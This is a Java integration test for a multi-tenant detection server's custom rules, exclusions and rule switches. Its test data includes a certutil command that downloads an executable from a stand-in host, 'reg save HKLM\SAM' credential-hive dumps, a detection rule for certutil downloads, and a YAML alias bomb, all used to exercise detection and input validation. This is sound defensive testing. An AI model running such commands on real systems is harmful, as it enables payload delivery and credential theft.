package io.vigil.server.detection;

import static org.assertj.core.api.Assertions.assertThat;

import io.vigil.server.Fixtures;
import io.vigil.server.Http;
import io.vigil.server.ServerTest;
import io.vigil.server.platform.AuditEntry;
import io.vigil.server.platform.AuditLog;
import io.vigil.server.platform.Role;
import io.vigil.server.platform.TenantId;
import io.vigil.server.platform.TenantScope;
import io.vigil.server.store.StoreEvents;
import io.vigil.server.tenant.Tenant;
import io.vigil.telemetry.CanonicalEvent;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.time.Instant;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Tenants' own rules through the real API and the real pipeline: custom rules fire for their tenant
 * only, exclusions and switches silence shared rules for one tenant only, every change is validated
 * (every problem with its line, nothing stored when refused), audited, and in force for the next
 * event without a restart; hostile input gets a clear answer quickly.
 */
class TenantRulesTest extends ServerTest {

    private static final String WHOAMI_RULE = "3f1c9e43-5b1a-4c55-9a55-6a1f0d0e7a01";
    private static final String REG_SAVE_RULE = "667c6766-f9b9-4ecf-bed7-3d3476f545a6";

    private static final String CUSTOM_RULE = """
            title: Tenant rule - certutil downloads
            id: 9b0e1f00-0000-4000-8000-00000000c001
            status: test
            logsource:
                category: process_creation
                product: windows
            detection:
                selection:
                    Image|endswith: '\\certutil.exe'
                    CommandLine|contains: 'urlcache'
                condition: selection
            level: medium
            """;

    private static final String REG_SAVE_EXCLUSION = """
            title: Backup host may save hives
            id: 9b0e1f00-0000-4000-8000-00000000f001
            filter:
                rules:
                    - 667c6766-f9b9-4ecf-bed7-3d3476f545a6
                selection:
                    CommandLine|contains: 'D:\\backup\\'
                condition: selection
            """;

    private static final AtomicInteger SEQ = new AtomicInteger();

    @Autowired
    Fixtures fixtures;

    @Autowired
    DetectionPipeline pipeline;

    @Autowired
    AuditLog audit;

    private final JsonMapper json = JsonMapper.builder().build();
    private final Instant at = Instant.now().truncatedTo(ChronoUnit.SECONDS).minus(Duration.ofMinutes(5));

    private String token(Role role, TenantId tenant) {
        return new Http(base()).accessToken(fixtures.connection(role, role == Role.PROVIDER_ADMIN ? null : tenant));
    }

    private static String path(Tenant t, String rest) {
        return "/api/tenants/" + t.id() + "/detection" + rest;
    }

    private HttpResponse<String> send(String method, String path, String body, String token) {
        return new Http(base()).sendJson(method, path, body, token);
    }

    private JsonNode ok(HttpResponse<String> r, int status) {
        assertThat(r.statusCode()).as(r.body()).isEqualTo(status);
        return r.body().isEmpty() ? json.nullNode() : json.readTree(r.body());
    }

    private String textBody(String name, String text) {
        return json.createObjectNode().put("name", name).put("text", text).toString();
    }

    /** Runs one event of the tenant through the pipeline and returns the rule ids of its alerts. */
    private Set<String> firedBy(Tenant tenant, String image, String commandLine) {
        CanonicalEvent event = StoreEvents.processStart(
                tenant.id(), "host-t", at.plusSeconds(SEQ.incrementAndGet()), image, commandLine);
        pipeline.handle(List.of(event));
        String admin = token(Role.PROVIDER_ADMIN, tenant.id());
        JsonNode alerts = ok(new Http(base()).getJson("/api/tenants/" + tenant.id() + "/alerts", admin), 200);
        Set<String> rules = new TreeSet<>();
        alerts.get("alerts").forEach(a -> {
            if (a.get("eventId").asString().equals(event.envelope().id().value())) {
                rules.add(a.get("ruleId").asString());
            }
        });
        return rules;
    }

    private Set<String> whoami(Tenant t) {
        return firedBy(t, "C:\\Windows\\System32\\whoami.exe", "whoami /priv");
    }

    private Set<String> regSave(Tenant t, String commandLine) {
        return firedBy(t, "C:\\Windows\\System32\\reg.exe", commandLine);
    }

    @Test
    void shouldFireACustomRuleForItsTenantOnlyFromTheNextEvent() {
        Tenant mine = fixtures.tenant();
        Tenant other = fixtures.tenant();
        String soc = token(Role.SOC_ANALYST, mine.id());
        String certutil = "certutil -urlcache -split -f http://x.example/a.exe a.exe";
        assertThat(firedBy(mine, "C:\\Windows\\System32\\certutil.exe", certutil))
                .isEmpty();

        JsonNode created = ok(send("POST", path(mine, "/custom-rules"), textBody("certutil", CUSTOM_RULE), soc), 201);
        assertThat(created.get("kind").asString()).isEqualTo("rule");
        assertThat(firedBy(mine, "C:\\Windows\\System32\\certutil.exe", certutil))
                .containsExactly("9b0e1f00-0000-4000-8000-00000000c001");
        assertThat(firedBy(other, "C:\\Windows\\System32\\certutil.exe", certutil))
                .isEmpty();
        // Shared rules still run for the tenant with its own set.
        assertThat(whoami(mine)).containsExactly(WHOAMI_RULE);

        // The tenant's rule list shows it, in the custom pack; a viewer of the tenant may read it.
        String viewer = token(Role.TENANT_VIEWER, mine.id());
        JsonNode listed = ok(new Http(base()).getJson(path(mine, "/rules?pack=custom"), viewer), 200);
        assertThat(listed.get("total").asInt()).isEqualTo(1);
        assertThat(listed.get("rules").get(0).get("id").asString()).isEqualTo("9b0e1f00-0000-4000-8000-00000000c001");
        ok(
                new Http(base())
                        .getJson(path(mine, "/custom-rules/" + created.get("id").asString()), viewer),
                200);

        // Updating and deleting take effect for the next event too.
        String id = created.get("id").asString();
        ok(
                send(
                        "PUT",
                        path(mine, "/custom-rules/" + id),
                        textBody("certutil v2", CUSTOM_RULE.replace("urlcache", "verifyctl")),
                        soc),
                200);
        assertThat(firedBy(mine, "C:\\Windows\\System32\\certutil.exe", certutil))
                .isEmpty();
        ok(send("DELETE", path(mine, "/custom-rules/" + id), "", soc), 204);
        assertThat(firedBy(mine, "C:\\Windows\\System32\\certutil.exe", "certutil -verifyctl -f http://x"))
                .isEmpty();

        List<String> actions = new ArrayList<>();
        for (AuditEntry e : audit.newest(TenantScope.of(mine.id()), 50, 0)) {
            actions.add(e.action());
        }
        assertThat(actions)
                .contains(
                        "detection.custom_rule_created",
                        "detection.custom_rule_updated",
                        "detection.custom_rule_deleted");
    }

    @Test
    void shouldSuppressABuiltInRuleWithAnExclusionForThatTenantOnly() {
        Tenant mine = fixtures.tenant();
        Tenant other = fixtures.tenant();
        String soc = token(Role.SOC_ANALYST, mine.id());
        String backup = "reg save HKLM\\SAM D:\\backup\\sam.hiv";
        assertThat(regSave(mine, backup)).containsExactly(REG_SAVE_RULE);

        ok(send("POST", path(mine, "/exclusions"), textBody("backup host", REG_SAVE_EXCLUSION), soc), 201);
        assertThat(regSave(mine, backup)).isEmpty();
        assertThat(regSave(mine, "reg save HKLM\\SAM C:\\temp\\sam.hiv")).containsExactly(REG_SAVE_RULE);
        assertThat(regSave(other, backup)).containsExactly(REG_SAVE_RULE);
        assertThat(ok(new Http(base()).getJson(path(mine, "/exclusions"), soc), 200))
                .hasSize(1);
    }

    @Test
    void shouldStopAlertsOfASwitchedOffRuleOrPackAndRestoreThem() {
        Tenant mine = fixtures.tenant();
        Tenant other = fixtures.tenant();
        String soc = token(Role.SOC_ANALYST, mine.id());
        assertThat(whoami(mine)).containsExactly(WHOAMI_RULE);

        ok(send("PUT", path(mine, "/rules/" + WHOAMI_RULE + "/enabled"), "{\"enabled\": false}", soc), 200);
        assertThat(whoami(mine)).isEmpty();
        assertThat(whoami(other)).containsExactly(WHOAMI_RULE);
        JsonNode state = ok(new Http(base()).getJson(path(mine, "/rules?enabled=false"), soc), 200);
        assertThat(state.get("rules").get(0).get("switchedOff").asString()).isEqualTo("rule");
        ok(send("PUT", path(mine, "/rules/" + WHOAMI_RULE + "/enabled"), "{\"enabled\": true}", soc), 200);
        assertThat(whoami(mine)).containsExactly(WHOAMI_RULE);

        JsonNode packs = ok(new Http(base()).getJson(path(mine, "/packs"), soc), 200);
        String folderPack = "";
        for (JsonNode p : packs) {
            if (p.get("id").asString().startsWith("folder-")) {
                folderPack = p.get("id").asString();
            }
        }
        assertThat(folderPack).isNotEmpty();
        ok(send("PUT", path(mine, "/packs/" + folderPack + "/enabled"), "{\"enabled\": false}", soc), 200);
        assertThat(whoami(mine)).isEmpty();
        assertThat(regSave(mine, "reg save HKLM\\SAM C:\\t\\s")).containsExactly(REG_SAVE_RULE);
        ok(send("PUT", path(mine, "/packs/vigil-ioa/enabled"), "{\"enabled\": false}", soc), 200);
        assertThat(regSave(mine, "reg save HKLM\\SAM C:\\t\\s")).isEmpty();
        ok(send("PUT", path(mine, "/packs/" + folderPack + "/enabled"), "{\"enabled\": true}", soc), 200);
        ok(send("PUT", path(mine, "/packs/vigil-ioa/enabled"), "{\"enabled\": true}", soc), 200);
        assertThat(whoami(mine)).containsExactly(WHOAMI_RULE);
        assertThat(regSave(mine, "reg save HKLM\\SAM C:\\t\\s")).containsExactly(REG_SAVE_RULE);

        assertThat(send("PUT", path(mine, "/packs/no-such-pack/enabled"), "{\"enabled\": false}", soc)
                        .statusCode())
                .isEqualTo(404);
        assertThat(send("PUT", path(mine, "/rules/no-such-rule/enabled"), "{\"enabled\": false}", soc)
                        .statusCode())
                .isEqualTo(404);
        assertThat(send("PUT", path(mine, "/rules/" + WHOAMI_RULE + "/enabled"), "{\"enabled\": \"no\"}", soc)
                        .statusCode())
                .isEqualTo(400);
        List<String> actions = new ArrayList<>();
        audit.newest(TenantScope.of(mine.id()), 50, 0).forEach(e -> actions.add(e.action()));
        assertThat(actions)
                .contains(
                        "detection.rule_disabled",
                        "detection.rule_enabled",
                        "detection.pack_disabled",
                        "detection.pack_enabled");
    }

    @Test
    void shouldRefuseInvalidRulesWithEveryProblemAndStoreNothing() {
        Tenant mine = fixtures.tenant();
        String soc = token(Role.SOC_ANALYST, mine.id());
        String broken = """
                title: Bad modifier
                id: 9b0e1f00-0000-4000-8000-00000000e001
                logsource:
                    category: process_creation
                    product: windows
                detection:
                    selection:
                        CommandLine|nosuchmodifier: 'x'
                    condition: selection
                ---
                title: Bad condition
                id: 9b0e1f00-0000-4000-8000-00000000e002
                logsource:
                    category: process_creation
                    product: windows
                detection:
                    selection:
                        CommandLine: 'x'
                    condition: selection and nothere
                ---
                title: Needs a placeholder
                id: 9b0e1f00-0000-4000-8000-00000000e003
                logsource:
                    category: process_creation
                    product: windows
                detection:
                    selection:
                        User|expand: '%admins%'
                    condition: selection
                ---
                title: Same id as a shared rule
                id: 3f1c9e43-5b1a-4c55-9a55-6a1f0d0e7a01
                logsource:
                    category: process_creation
                    product: windows
                detection:
                    selection:
                        CommandLine: 'y'
                    condition: selection
                """;
        JsonNode refused = ok(send("POST", path(mine, "/custom-rules"), textBody("broken", broken), soc), 400);
        List<String> problems = new ArrayList<>();
        refused.get("errors")
                .forEach(e -> problems.add(
                        e.get("line").asInt() + ": " + e.get("message").asString()));
        // Every problem, in line order: the engine also reports each refused selection's condition.
        assertThat(problems).hasSize(6);
        assertThat(problems.get(0)).startsWith("8: ").contains("nosuchmodifier");
        assertThat(problems.get(1)).startsWith("9: ").contains("'selection'");
        assertThat(problems.get(2)).startsWith("19: ").contains("nothere");
        assertThat(problems.get(3)).startsWith("28: ").contains("%admins%");
        assertThat(problems.get(5)).startsWith("31: ").contains("already used");
        assertThat(ok(new Http(base()).getJson(path(mine, "/custom-rules"), soc), 200))
                .isEmpty();

        // An exclusion naming an unknown rule, and a detection rule sent as an exclusion.
        JsonNode badFilter = ok(
                send(
                        "POST",
                        path(mine, "/exclusions"),
                        textBody("bad", REG_SAVE_EXCLUSION.replace("667c6766", "00000000") + "---\n" + CUSTOM_RULE),
                        soc),
                400);
        assertThat(badFilter.get("errors")).hasSize(2);
        assertThat(badFilter.toString()).contains("unknown referenced rule", "save it as a custom rule");

        // The dry run says the same and stores nothing; a good text validates with its rules.
        JsonNode dry = ok(
                send(
                        "POST",
                        path(mine, "/validate"),
                        json.createObjectNode()
                                .put("kind", "rule")
                                .put("text", broken)
                                .toString(),
                        soc),
                200);
        assertThat(dry.get("valid").asBoolean()).isFalse();
        assertThat(dry.get("problems")).hasSize(6);
        JsonNode good = ok(
                send(
                        "POST",
                        path(mine, "/validate"),
                        json.createObjectNode()
                                .put("kind", "rule")
                                .put("text", CUSTOM_RULE)
                                .toString(),
                        soc),
                200);
        assertThat(good.get("valid").asBoolean()).isTrue();
        assertThat(good.get("rules").get(0).get("title").asString()).isEqualTo("Tenant rule - certutil downloads");
        assertThat(ok(new Http(base()).getJson(path(mine, "/settings"), soc), 200)
                        .get("revision")
                        .asLong())
                .isZero();

        // With the placeholder set, the rule needing it loads and fires.
        ok(send("PUT", path(mine, "/placeholders"), "{\"admins\": [\"CORP\\\\alice\"]}", soc), 200);
        String placeholderRule =
                broken.substring(broken.indexOf("title: Needs a placeholder"), broken.indexOf("---\ntitle: Same id"));
        ok(send("POST", path(mine, "/custom-rules"), textBody("admins", placeholderRule), soc), 201);
        assertThat(firedBy(mine, "C:\\Windows\\System32\\cmd.exe", "cmd /c dir"))
                .containsExactly("9b0e1f00-0000-4000-8000-00000000e003");
        // Removing the value the rule needs is refused, naming the rule.
        JsonNode needed = ok(send("PUT", path(mine, "/placeholders"), "{}", soc), 400);
        assertThat(needed.toString()).contains("admins");
    }

    @Test
    void shouldAnswerHostileInputClearlyAndQuickly() {
        Tenant mine = fixtures.tenant();
        String soc = token(Role.SOC_ANALYST, mine.id());
        long started = System.nanoTime();

        // Over the text limit (256 KB): refused before compiling.
        String huge = CUSTOM_RULE + "#" + "x".repeat(300 * 1024) + "\n";
        assertThat(send("POST", path(mine, "/custom-rules"), textBody("huge", huge), soc)
                        .body())
                .contains("limit is 262144");
        // Far over the body limit: 413 without reading it all.
        HttpResponse<String> tooLarge =
                send("POST", path(mine, "/custom-rules"), textBody("huge", "x".repeat(3 * 1024 * 1024)), soc);
        assertThat(tooLarge.statusCode()).isEqualTo(413);

        // A YAML alias bomb, deep nesting, a tab-indented mess and control characters.
        StringBuilder bomb = new StringBuilder("a: &a [x,x,x,x,x,x,x,x,x,x]\n");
        for (char c = 'b'; c <= 'k'; c++) {
            char prev = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [");
            bomb.append(("*" + prev + ",").repeat(10), 0, 30 - 1).append("]\n");
        }
        String deep = "title: deep\ndetection:\n  selection: " + "[".repeat(50_000) + "]".repeat(50_000) + "\n";
        for (String hostile : List.of(bomb.toString(), deep, "title: x\n\tdetection: y\n", "title: \u0000\u0007\n")) {
            JsonNode r = ok(send("POST", path(mine, "/custom-rules"), textBody("hostile", hostile), soc), 400);
            assertThat(r.get("errors").get(0).get("line").asInt()).isPositive();
            assertThat(r.get("errors").get(0).get("message").asString()).isNotBlank();
        }

        // Bad UTF-8 as raw YAML, and broken JSON.
        HttpResponse<String> badUtf8 = new Http(base())
                .send(HttpRequest.newBuilder(URI.create(base() + path(mine, "/custom-rules?name=bad")))
                        .header("Content-Type", "application/yaml")
                        .header("Authorization", "Bearer " + soc)
                        .POST(HttpRequest.BodyPublishers.ofByteArray(
                                new byte[] {'t', ':', ' ', (byte) 0xC3, (byte) 0x28}))
                        .build());
        assertThat(badUtf8.statusCode()).isEqualTo(400);
        assertThat(badUtf8.body()).contains("not valid UTF-8");
        JsonNode badJson = ok(send("POST", path(mine, "/custom-rules"), "{\"text\": ", soc), 400);
        assertThat(badJson.toString()).contains("Not valid JSON at line 1");
        assertThat(send("POST", path(mine, "/custom-rules"), "{\"text\": 42}", soc)
                        .body())
                .contains("'text'");

        // Raw YAML with ?name= works too.
        HttpResponse<String> raw = new Http(base())
                .send(HttpRequest.newBuilder(URI.create(base() + path(mine, "/custom-rules?name=raw")))
                        .header("Content-Type", "application/yaml")
                        .header("Authorization", "Bearer " + soc)
                        .POST(HttpRequest.BodyPublishers.ofString(CUSTOM_RULE))
                        .build());
        assertThat(raw.statusCode()).as(raw.body()).isEqualTo(201);
        assertThat(json.readTree(raw.body()).get("name").asString()).isEqualTo("raw");
        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(60));
    }

    @Test
    void shouldLetTheSocEditAndTheTenantsUsersOnlyRead() {
        Tenant mine = fixtures.tenant();
        String admin = token(Role.TENANT_ADMIN, mine.id());
        assertThat(send("POST", path(mine, "/custom-rules"), textBody("x", CUSTOM_RULE), admin)
                        .statusCode())
                .isEqualTo(403);
        assertThat(send("PUT", path(mine, "/rules/" + WHOAMI_RULE + "/enabled"), "{\"enabled\": false}", admin)
                        .statusCode())
                .isEqualTo(403);
        assertThat(new Http(base()).getJson(path(mine, "/settings"), admin).statusCode())
                .isEqualTo(200);
        assertThat(new Http(base()).getJson(path(mine, "/packs"), admin).statusCode())
                .isEqualTo(200);
        Tenant other = fixtures.tenant();
        String otherSoc = token(Role.SOC_ANALYST, other.id());
        assertThat(send("POST", path(mine, "/custom-rules"), textBody("x", CUSTOM_RULE), otherSoc)
                        .statusCode())
                .isEqualTo(404);
        String providerAdmin = token(Role.PROVIDER_ADMIN, mine.id());
        ok(send("POST", path(mine, "/custom-rules"), textBody("x", CUSTOM_RULE), providerAdmin), 201);
    }
}
